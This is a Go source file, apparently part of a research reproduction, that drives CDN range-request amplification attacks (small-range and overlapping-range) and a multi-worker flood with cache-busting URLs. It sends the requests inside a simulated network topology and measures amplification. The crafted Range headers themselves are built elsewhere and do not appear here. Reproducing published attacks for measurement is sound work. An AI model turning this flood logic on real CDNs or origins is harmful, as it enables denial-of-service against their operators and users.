@@ -1,0 +1,142 @@
+package core
+
+import (
+	"context"
+	"fmt"
+	"sync"
+
+	"repro/internal/measure"
+	"repro/internal/origin"
+)
+
+// This file holds the context-aware attack entry points. Each attack
+// is a sequence of hops (edge round-trips); cancellation is honoured
+// between hops, never mid-transfer, so a cancelled run leaves the
+// topology in a consistent state and its partial traffic remains
+// visible in the metrics registry.
+
+// RunSBRContext is RunSBR honouring ctx between hops. A cancelled
+// context returns ctx.Err() before the next request is sent; requests
+// already in flight complete normally.
+func RunSBRContext(ctx context.Context, t *SBRTopology, path string, resourceSize int64, cacheBuster string) (*SBRResult, error) {
+	exploit := SBRExploit(t.Profile.Name, resourceSize)
+	probe := measure.NewProbe(t.OriginSeg, t.ClientSeg)
+	target := path + "?cb=" + cacheBuster
+
+	result := &SBRResult{Case: exploit}
+	for i := 0; i < exploit.Repeat; i++ {
+		if err := ctx.Err(); err != nil {
+			return nil, fmt.Errorf("sbr request %d: %w", i, err)
+		}
+		req := NewAttackRequest(target)
+		req.Headers.Add("Range", exploit.RangeHeader)
+		resp, err := origin.Fetch(t.Net, t.EdgeAddr, t.ClientSeg, req)
+		if err != nil {
+			return nil, fmt.Errorf("sbr request %d: %w", i, err)
+		}
+		result.Responses = append(result.Responses, resp)
+	}
+	result.Amplification = probe.Delta()
+	return result, nil
+}
+
+// RunOBRContext is RunOBR honouring ctx: a context already cancelled
+// when the attack request would be sent returns ctx.Err().
+func RunOBRContext(ctx context.Context, t *OBRTopology, path string, n int) (*OBRResult, error) {
+	plan := PlanMaxN(t.FCDN.Profile(), t.BCDN.Profile(), path)
+	if n > 0 {
+		plan.N = n
+	}
+	if plan.N < 1 {
+		return nil, fmt.Errorf("obr: no usable n for %s->%s", t.FCDN.Profile().Name, t.BCDN.Profile().Name)
+	}
+	if err := ctx.Err(); err != nil {
+		return nil, fmt.Errorf("obr request: %w", err)
+	}
+	probe := measure.NewProbe(t.FcdnBcdnSeg, t.BcdnOriginSeg)
+	req := NewAttackRequest(path)
+	req.Headers.Add("Range", BuildOverlappingRange(plan.FirstToken, plan.N))
+	resp, err := origin.Fetch(t.Net, t.FCDNAddr, t.ClientSeg, req)
+	if err != nil {
+		return nil, fmt.Errorf("obr request: %w", err)
+	}
+	// Table V's two byte counts use the paper's own (mixed) vantage
+	// points: fcdn-bcdn traffic was collected at an application-level
+	// proxy the authors inserted between the CDNs, while bcdn-origin
+	// traffic was captured on the wire (its 1676B for a 1KB resource
+	// includes TCP/IP framing and handshakes). We therefore report the
+	// application-level delta for the victim segment and the
+	// capture-level estimate for the origin segment.
+	appDelta := probe.Delta()
+	wireDelta := probe.WireDelta()
+	return &OBRResult{
+		Case: plan,
+		Amplification: measure.Amplification{
+			VictimBytes:   appDelta.VictimBytes,    // fcdn-bcdn response bytes (proxy view)
+			AttackerBytes: wireDelta.AttackerBytes, // bcdn-origin response bytes (capture view)
+		},
+		Response: resp,
+		Parts:    CountParts(resp),
+	}, nil
+}
+
+// RunSBRFloodContext is RunSBRFlood honouring ctx: each worker checks
+// the context before every request and stops early when it is
+// cancelled. A cancelled flood returns ctx.Err(); the traffic its
+// completed requests generated stays accounted in the registry, which
+// is how the scheduler tests observe partial progress.
+func RunSBRFloodContext(ctx context.Context, t *SBRTopology, path string, resourceSize int64, workers, perWorker int) (*FloodResult, error) {
+	exploit := SBRExploit(t.Profile.Name, resourceSize)
+	probe := measure.NewProbe(t.OriginSeg, t.ClientSeg)
+
+	var (
+		wg       sync.WaitGroup
+		mu       sync.Mutex
+		requests int
+		failures int
+		blocked  int
+		firstErr error
+	)
+	for w := 0; w < workers; w++ {
+		wg.Add(1)
+		go func(w int) {
+			defer wg.Done()
+			for i := 0; i < perWorker; i++ {
+				target := fmt.Sprintf("%s?cb=w%d-%d", path, w, i)
+				for r := 0; r < exploit.Repeat; r++ {
+					if ctx.Err() != nil {
+						return
+					}
+					req := NewAttackRequest(target)
+					req.Headers.Add("Range", exploit.RangeHeader)
+					resp, err := origin.Fetch(t.Net, t.EdgeAddr, t.ClientSeg, req)
+					mu.Lock()
+					requests++
+					switch {
+					case err != nil:
+						failures++
+						if firstErr == nil {
+							firstErr = err
+						}
+					case resp.StatusCode == 403 || resp.StatusCode == 431:
+						blocked++
+					}
+					mu.Unlock()
+				}
+			}
+		}(w)
+	}
+	wg.Wait()
+	if err := ctx.Err(); err != nil {
+		return nil, fmt.Errorf("flood: cancelled after %d requests: %w", requests, err)
+	}
+	if firstErr != nil {
+		return nil, fmt.Errorf("flood: %d failures, first: %w", failures, firstErr)
+	}
+	return &FloodResult{
+		Requests:      requests,
+		Failures:      failures,
+		Blocked:       blocked,
+		Amplification: probe.Delta(),
+	}, nil
+}
